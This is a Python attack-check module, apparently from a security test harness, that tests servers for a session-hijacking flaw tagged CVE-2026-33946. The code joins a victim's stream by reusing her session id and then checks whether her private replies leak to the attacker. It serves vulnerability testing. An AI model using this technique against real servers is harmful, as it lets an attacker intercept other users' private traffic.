"""Steals: the replies to Alice's requests, by asking for her stream.

A client that has lost its connection may want to continue its session. If a server asks only
for the id, anybody who knows it gets the stream as well. From then on each reply to Alice goes
to one of the two.
"""

from contextlib import suppress

from attacks.finding import Finding
from attacks.target import Server, call, said

AGAINST = "server"
CASE = "CVE-2026-33946"
CALLS = 3


async def attack(server: Server) -> Finding:
    async with server.open(server.alice) as alice:
        await alice.initialize()
        query = f"?session_id={alice.session_id}"
        async with server.open(server.mallory, query) as mallory:
            with suppress(TimeoutError):
                await mallory.endpoint()
            for number in range(CALLS):
                await alice.send(call(f"private-{number}", "echo", message="Alice's secret"))
            try:
                for number in range(CALLS):
                    await alice.reply(f"private-{number}", seconds=0.5)
            except TimeoutError:
                stolen = await mallory.next(lambda event: "Alice's secret" in event.data)
                return Finding(True, f"on Mallory's stream: {said(stolen)!r}")
            if any("Alice's secret" in event.data for event in mallory.events):
                return Finding(True, "Mallory's stream shows a copy of Alice's replies")
            whose = "the same" if mallory.session_id == alice.session_id else "another"
            return Finding(False, f"Mallory got {whose} session, Alice all {CALLS} replies")
